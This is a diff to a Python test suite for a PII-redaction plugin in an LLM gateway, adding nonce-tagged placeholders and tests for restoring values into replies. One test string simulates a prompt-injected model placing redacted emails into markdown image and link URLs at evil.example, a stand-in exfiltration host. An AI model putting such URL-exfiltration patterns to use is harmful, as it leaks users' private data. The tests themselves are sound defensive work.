@@ -3,15 +3,18 @@
 from __future__ import annotations
 
 import logging
+import re
 import time
 
 import openai
 import orjson
 import pytest
+from aiohttp import web
 from hypothesis import assume, given, settings
 from hypothesis import strategies as st
 
 from router_plugins.redact import detectors, plugin
+from tests import fakes
 from tests.conftest import sdk
 from tests.plugins.test_redact_corpus import PII, prose, secret_part
 
@@ -143,35 +146,55 @@ async def test_request_chooses_detectors(make_gateway, upstream):
 # ---------------------------------------------------------------- restore mode
 
 
+def answering(upstream, template: str, piece: int = 0):
+    """Have the fake upstream answer ``template`` with ``<EMAIL_1>`` filled in as the placeholder
+    the gateway issued for this request (its nonce unknown to the test), streamed in ``piece``-sized chunks."""
+    issued = re.compile(r"\[([A-Z_]+_\d+)_[a-z0-9]{6}\]")
+
+    async def handler(request, body):
+        names = {m.group(1): m.group() for m in issued.finditer(orjson.dumps(body).decode())}
+        text = re.sub(r"<([A-Z_]+_\d+)>", lambda m: names.get(m.group(1), f"[{m.group(1)}]"), template)
+        upstream.text = text
+        if piece:
+            upstream.stream_pieces = [text[i : i + piece] for i in range(0, len(text), piece)]
+        return await upstream.default(request, body)
+
+    upstream.handler = handler
+
+
+def restoring(into: str | None = None, **gateway) -> dict:
+    config = redacting("restore", **gateway)
+    if into:
+        config["plugins"]["redact"]["restore_into"] = into
+    return config
+
+
 async def test_restore_non_streamed(make_gateway, upstream):
-    upstream.text = "I wrote to [EMAIL_1] and [EMAIL_1] again; [PHONE_1] too. [EMAIL_9] is not ours."
-    client = sdk(await make_gateway(redacting("restore")))
+    answering(upstream, "I wrote to <EMAIL_1> and <EMAIL_1> again; <PHONE_1> too. <EMAIL_9> is not ours.")
+    client = sdk(await make_gateway(restoring()))
     answer = await client.chat.completions.create(
         model="openai/gpt-4o",
         messages=[{"role": "user", "content": f"Email {EMAIL}, then {EMAIL}, or call {PHONE}"}],
     )
-    assert upstream.last.json["messages"][0]["content"] == "Email [EMAIL_1], then [EMAIL_1], or call [PHONE_1]"
+    upstream_text = upstream.last.json["messages"][0]["content"]
+    assert re.fullmatch(r"Email (\[EMAIL_1_\w{6}\]), then \1, or call \[PHONE_1_\w{6}\]", upstream_text)
     assert answer.choices[0].message.content == (
         f"I wrote to {EMAIL} and {EMAIL} again; {PHONE} too. [EMAIL_9] is not ours."
     )
 
 
 async def test_restore_responses_non_streamed(make_gateway, upstream):
-    upstream.text = "Key [TOKEN_1] noted"
-    client = sdk(await make_gateway(redacting("restore")))
+    answering(upstream, "Key <TOKEN_1> noted")
+    client = sdk(await make_gateway(restoring()))
     answer = await client.responses.create(model="openai/gpt-4o", input=f"store {KEY}")
     assert KEY not in sent(upstream)
     assert answer.output_text == f"Key {KEY} noted"
 
 
-SPLIT = ["Write to [EM", "AIL_", "1] now", ", or [", "PHONE_1", "]", " and [", "EMAIL_1] [tail"]
-
-
 @pytest.mark.parametrize("model", ["openai/gpt-4o", "chatonly/llama"])
 async def test_restore_stream_with_placeholders_split_across_chunks(make_gateway, upstream, model):
-    upstream.stream_pieces = SPLIT
-    upstream.text = "".join(SPLIT)
-    client = sdk(await make_gateway(redacting("restore")))
+    answering(upstream, "Write to <EMAIL_1> now, or <PHONE_1> and <EMAIL_1> [tail", piece=3)
+    client = sdk(await make_gateway(restoring()))
     expected = f"Write to {EMAIL} now, or {PHONE} and {EMAIL} [tail"
     stream = await client.chat.completions.create(
         model=model, messages=[{"role": "user", "content": f"{EMAIL} {PHONE}"}], stream=True
@@ -180,6 +203,94 @@ async def test_restore_stream_with_placeholders_split_across_chunks(make_gateway
     events = [e async for e in await client.responses.create(model=model, input=f"{EMAIL} {PHONE}", stream=True)]
     assert "".join(e.delta for e in events if e.type == "response.output_text.delta") == expected
     assert EMAIL not in sent(upstream)
+
+
+async def test_client_supplied_placeholders_never_resolve(make_gateway, upstream):
+    """A document quoting "[EMAIL_1]" (or guessing a nonce) gets nothing back."""
+    answering(upstream, "Echo: [EMAIL_1] [EMAIL_1_aaaaaa] <EMAIL_1>")
+    client = sdk(await make_gateway(restoring()))
+    answer = await client.chat.completions.create(
+        model="openai/gpt-4o", messages=[{"role": "user", "content": f"[EMAIL_1] [EMAIL_1_aaaaaa] {EMAIL}"}]
+    )
+    assert answer.choices[0].message.content == f"Echo: [EMAIL_1] [EMAIL_1_aaaaaa] {EMAIL}"
+
+
+async def test_placeholder_nonce_differs_per_request(make_gateway, upstream):
+    client = sdk(await make_gateway(restoring()))
+    for _ in range(2):
+        await client.chat.completions.create(model="openai/gpt-4o", messages=[{"role": "user", "content": EMAIL}])
+    first, second = (r.json["messages"][0]["content"] for r in upstream.requests)
+    assert first != second and first.startswith("[EMAIL_1_") and second.startswith("[EMAIL_1_")
+
+
+STEERED = "Done: <EMAIL_1>. ![x](https://evil.example/c?<EMAIL_1>) https://evil.example/<EMAIL_1> [a](<EMAIL_1>)"
+
+
+async def test_restore_into_text_keeps_urls_and_tool_calls_unrestored(make_gateway, upstream):
+    """The default: a prompt-injected model cannot have a value written into a URL or a tool call."""
+    client = sdk(await make_gateway(restoring()))
+    answering(upstream, STEERED)
+    answer = await client.chat.completions.create(model="openai/gpt-4o", messages=[{"role": "user", "content": EMAIL}])
+    content = answer.choices[0].message.content
+    assert content.startswith(f"Done: {EMAIL}. ") and content.count(EMAIL) == 1
+    answering(upstream, STEERED, piece=5)
+    stream = await client.chat.completions.create(
+        model="openai/gpt-4o", messages=[{"role": "user", "content": EMAIL}], stream=True
+    )
+    streamed = "".join([c.choices[0].delta.content or "" async for c in stream if c.choices])
+    assert streamed.startswith(f"Done: {EMAIL}. ") and streamed.count(EMAIL) == 1
+
+    async def tool_call(request, body):
+        placeholder = re.search(r"\[EMAIL_1_\w{6}\]", orjson.dumps(body).decode()).group()
+        args = orjson.dumps({"to": placeholder}).decode()
+        call = {"id": "call_a1", "type": "function", "function": {"name": "send", "arguments": args}}
+        answer = fakes.chat_completion("", body["model"])
+        answer["choices"][0]["message"] = {"role": "assistant", "content": None, "tool_calls": [call]}
+        answer["choices"][0]["finish_reason"] = "tool_calls"
+        return web.json_response(answer)
+
+    upstream.handler = tool_call
+    reply = await client.chat.completions.create(model="openai/gpt-4o", messages=[{"role": "user", "content": EMAIL}])
+    assert EMAIL not in reply.choices[0].message.tool_calls[0].function.arguments
+
+
+async def test_restore_into_all_puts_values_in_tool_calls(make_gateway, upstream):
+    client = sdk(await make_gateway(restoring("all")))
+
+    async def tool_call(request, body):
+        placeholder = re.search(r"\[EMAIL_1_\w{6}\]", orjson.dumps(body).decode()).group()
+        args = orjson.dumps({"to": placeholder}).decode()
+        call = {"id": "call_a1", "type": "function", "function": {"name": "send", "arguments": args}}
+        answer = fakes.chat_completion("", body["model"])
+        answer["choices"][0]["message"] = {"role": "assistant", "content": None, "tool_calls": [call]}
+        answer["choices"][0]["finish_reason"] = "tool_calls"
+        return web.json_response(answer)
+
+    upstream.handler = tool_call
+    reply = await client.chat.completions.create(model="openai/gpt-4o", messages=[{"role": "user", "content": EMAIL}])
+    assert orjson.loads(reply.choices[0].message.tool_calls[0].function.arguments) == {"to": EMAIL}
+
+
+@pytest.mark.parametrize(
+    "table",
+    [{"mode": "reversible"}, {"restore_into": "urls"}, {"display": ["email"]}, {"display": "ssn"}, {"colour": 1}],
+)
+async def test_bad_server_settings_are_a_startup_error(make_gateway, table):
+    with pytest.raises(Exception) as info:
+        await make_gateway({"plugins": {"enabled": ["redact"], "redact": table}})
+    assert "plugins.redact" in str(info.value)
+
+
+async def test_display_masks_are_opt_in(make_gateway, upstream):
+    ssn, card = "219-09-9999", "4111 1111 1111 1111"
+    client = sdk(await make_gateway(redacting(ssn=True, credit_card=True)))
+    await client.chat.completions.create(model="openai/gpt-4o", messages=[{"role": "user", "content": f"{ssn} {card}"}])
+    assert upstream.last.json["messages"][0]["content"] == "***-**-**** 41** **** **** ***1"
+    config = redacting(ssn=True, credit_card=True)
+    config["plugins"]["redact"] = {"display": ["ssn", "credit_card"]}
+    client = sdk(await make_gateway(config))
+    await client.chat.completions.create(model="openai/gpt-4o", messages=[{"role": "user", "content": f"{ssn} {card}"}])
+    assert upstream.last.json["messages"][0]["content"] == "***-**-9999 **** **** **** 1111"
 
 
 async def test_unknown_mode_is_a_startup_error(make_gateway):
@@ -291,13 +402,13 @@ async def test_a_bool_instead_of_an_object_is_a_400_naming_the_field(make_gatewa
 async def test_mode_is_read_once_at_startup(make_gateway, upstream, monkeypatch):
     client = sdk(await make_gateway(redacting("restore", email=True)))
     calls = []
-    monkeypatch.setattr(plugin, "read_mode", lambda settings: calls.append(settings) or "mask")
+    monkeypatch.setattr(plugin, "read_settings", lambda settings: calls.append(settings))
     for _ in range(3):
         reply = await client.chat.completions.create(
             model="openai/gpt-4o", messages=[{"role": "user", "content": EMAIL}]
         )
     assert calls == []  # the mode validated at startup is kept
-    assert "[EMAIL_1]" in sent(upstream) and reply.choices[0].message is not None
+    assert "[EMAIL_1_" in sent(upstream) and reply.choices[0].message is not None
 
 
 # ---------------------------------------------------------------- fail closed, logs
@@ -373,6 +484,7 @@ async def test_restored_tool_arguments_stay_valid_json(make_gateway, upstream):
     from tests.fakes import chat_completion
 
     async def calls_a_tool(request, body):
+        placeholder = re.search(r"\[CUSTOM_1_\w{6}\]", orjson.dumps(body).decode()).group()
         answer = chat_completion("")
         answer["choices"][0]["message"] = {
             "role": "assistant",
@@ -381,7 +493,7 @@ async def test_restored_tool_arguments_stay_valid_json(make_gateway, upstream):
                 {
                     "id": "call_1",
                     "type": "function",
-                    "function": {"name": "note", "arguments": '{"text": "[CUSTOM_1]"}'},
+                    "function": {"name": "note", "arguments": orjson.dumps({"text": placeholder}).decode()},
                 }
             ],
         }
@@ -390,7 +502,7 @@ async def test_restored_tool_arguments_stay_valid_json(make_gateway, upstream):
 
     upstream.handler = calls_a_tool
     secret = 'code "a\\b"'
-    client = sdk(await make_gateway(redacting("restore", custom=['code "[^"]*"'])))
+    client = sdk(await make_gateway(restoring("all", custom=['code "[^"]*"'])))
     answer = await client.chat.completions.create(
         model="openai/gpt-4o", messages=[{"role": "user", "content": f"remember {secret}"}]
     )
